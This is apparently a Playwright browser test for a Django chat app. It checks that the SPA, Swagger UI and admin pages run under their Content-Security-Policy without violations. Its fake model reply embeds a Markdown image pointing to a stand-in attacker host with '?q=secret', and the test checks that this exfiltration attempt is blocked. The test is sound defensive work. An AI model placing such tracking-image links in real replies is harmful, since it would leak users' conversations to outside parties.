"""The pages work under their Content-Security-Policy: no violation anywhere.

The SPA (strict policy: chatproject/spa.py), Swagger UI at /api/docs and the
admin (Django's policy: chatproject/middleware.py) are driven in Chromium
while every ``securitypolicyviolation`` event and CSP console message is
collected. One violation is expected and checked: an image on another origin
in a model's Markdown reply is blocked, so a reply cannot send the
conversation anywhere by loading a URL.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.conftest import PASSWORD
from tests.fake_openai import FakeOpenAI, text

pytestmark = [pytest.mark.browser, pytest.mark.live]

EXFILTRATION_URL = "http://attacker.invalid/pixel.png"
REPLY = (
    "| left | right |\n|:--|--:|\n| a | 1 |\n\n"
    "```python\nprint('code')\n```\n\n"
    "Done with **Markdown**.\n\n"
    f"![pixel]({EXFILTRATION_URL}?q=secret)"
)

COLLECT_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.__cspViolations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


@pytest.fixture(scope="module")
def csp_app(server_factory) -> Iterator[tuple[str, FakeOpenAI]]:
    fake = FakeOpenAI().start()
    server = server_factory(
        OPENAI_BASE_URL=fake.base_url,
        OPENAI_API_KEY="test-key",
        ALLOW_SIGNUP="1",
        THROTTLE_REGISTER="1000/min",
    )
    try:
        yield server.url, fake
    finally:
        fake.stop()


def _watch(page: Page) -> list[str]:
    console: list[str] = []
    page.add_init_script(COLLECT_VIOLATIONS)
    page.on(
        "console",
        lambda message: (
            console.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    return console


def _violations(page: Page) -> list[str]:
    return page.evaluate("() => window.__cspViolations")


def test_the_spa_the_api_docs_and_the_admin_run_without_csp_violations(
    page: Page, csp_app, transactional_db, django_user_model
) -> None:
    url, fake = csp_app
    console = _watch(page)
    username = f"csp-{uuid.uuid4().hex[:8]}"

    # --- the SPA: sign up, chat (a Markdown reply) over SSE and a WebSocket, reload.
    page.goto(f"{url}/signup")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Create account").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    fake.push(text(REPLY))
    page.get_by_role("textbox", name="Message").fill("Show me a table")
    page.get_by_role("button", name="Send").click()
    reply = page.get_by_role("article", name="Assistant message").first
    expect(reply.locator("table")).to_be_visible()
    expect(reply.locator("pre")).to_contain_text("print('code')")
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    # React set the column alignment through the DOM: allowed under style-src 'self'.
    assert reply.locator("td").nth(1).evaluate("cell => getComputedStyle(cell).textAlign") == (
        "right"
    )
    # The one expected violation: the image on another origin was not loaded.
    expect(reply.locator("img")).to_have_count(1)
    # The WebSocket transport: connect-src 'self' covers ws:// on the same host.
    sockets: list[str] = []
    page.on("websocket", lambda socket: sockets.append(socket.url))
    # The transport is picked on the settings page; back to the same conversation.
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Settings").click()
    page.get_by_label("Transport").select_option(label="WebSocket")
    page.go_back()
    expect(page.get_by_role("article", name="Assistant message")).to_have_count(1)
    fake.push(text("Over a socket."))
    page.get_by_role("textbox", name="Message").fill("And over a socket?")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("article", name="Assistant message").nth(1)).to_have_text(
        "Over a socket."
    )
    assert [socket_url.rsplit("/", 2)[-2:] for socket_url in sockets] == [["ws", "chat"]]
    spa_violations = _violations(page)
    # Once per render of that reply (it is shown again after the settings page).
    assert set(spa_violations) == {f"img-src {EXFILTRATION_URL}?q=secret"}, spa_violations
    page.goto(f"{url}/index.html")
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    page.goto(f"{url}/keys")
    page.wait_for_load_state("networkidle")
    assert _violations(page) == []

    # --- Swagger UI renders the schema (scripts and styles from the sidecar package).
    page.goto(f"{url}/api/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Chat starter API")
    expect(page.locator(".opblock").first).to_be_visible()
    assert _violations(page) == []

    # --- the admin: log in, a list, a change form.
    registered = httpx.post(
        f"{url}/api/auth/register",
        json={"username": f"{username}-admin", "password": PASSWORD},
    )
    assert registered.status_code == 201, registered.text
    django_user_model.objects.filter(username=f"{username}-admin").update(
        is_staff=True, is_superuser=True
    )
    page.goto(f"{url}/admin/login/")
    page.get_by_label("Username").fill(f"{username}-admin")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#site-name")).to_be_visible()
    assert _violations(page) == []
    user_id = django_user_model.objects.get(username=username).pk
    page.goto(f"{url}/admin/accounts/user/")
    expect(page.locator("#result_list")).to_be_visible()
    assert _violations(page) == []
    page.goto(f"{url}/admin/accounts/user/{user_id}/change/")
    expect(page.locator("#user_form")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert _violations(page) == []

    # Console messages are the browser's own report; only the image may be in it.
    unexpected = [line for line in console if "attacker.invalid" not in line]
    assert unexpected == []
